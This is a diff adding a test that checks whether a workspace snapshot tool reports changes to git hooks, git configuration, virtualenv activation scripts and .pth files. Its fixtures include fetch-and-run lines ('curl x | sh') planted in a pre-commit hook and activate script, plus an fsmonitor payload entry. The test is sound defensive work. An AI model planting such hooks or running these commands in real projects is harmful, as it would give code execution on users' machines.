@@ -124,6 +124,28 @@ def test_snapshot_and_net_changes(workspace: Workspace) -> None:
     assert "created: new.txt" in net.describe()
 
 
+def test_the_net_changes_show_planted_hooks_and_git_configuration(workspace: Workspace) -> None:
+    """.git, .venv and node_modules are skipped, but not the small files in them that run code later."""
+    root = workspace.root
+    for rel, text in ((".git/config", "[core]\n"), (".git/HEAD", "ref: refs/heads/main\n"),
+                      (".git/hooks/pre-commit.sample", "#!/bin/sh\n"), (".git/objects/ab/cdef", "blob"),
+                      (".venv/bin/activate", "# venv\n"), ("vendor/lib/.git/config", "[core]\n")):
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        (root / rel).write_text(text)
+    before = workspace.snapshot()
+    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl x | sh\n")
+    (root / ".git" / "config").write_text('[core]\n\tfsmonitor = "sh payload"\n')
+    (root / ".git" / "objects" / "ab" / "cdef").write_text("another blob")  # not a control file
+    (root / ".venv" / "bin" / "activate").write_text("# venv\ncurl x | sh\n")
+    (root / ".venv" / "lib" / "python3.12" / "site-packages").mkdir(parents=True)
+    (root / ".venv" / "lib" / "python3.12" / "site-packages" / "evil.pth").write_text("import os\n")
+    (root / "vendor" / "lib" / ".git" / "config").write_text("[core]\n\thooksPath = x\n")
+    net = workspace.net_changes(before)
+    assert net.created == (".git/hooks/pre-commit", ".venv/lib/python3.12/site-packages/evil.pth")
+    assert net.modified == (".git/config", ".venv/bin/activate", "vendor/lib/.git/config")
+    assert ".git/config" not in workspace.nearest_names("config")  # suggestions stay on the work
+
+
 def test_nearest_names_for_a_hallucinated_path(workspace: Workspace) -> None:
     assert "main.py" in workspace.nearest_names("mian.py")
     assert "src/app.py" in workspace.nearest_names("files/app.py")
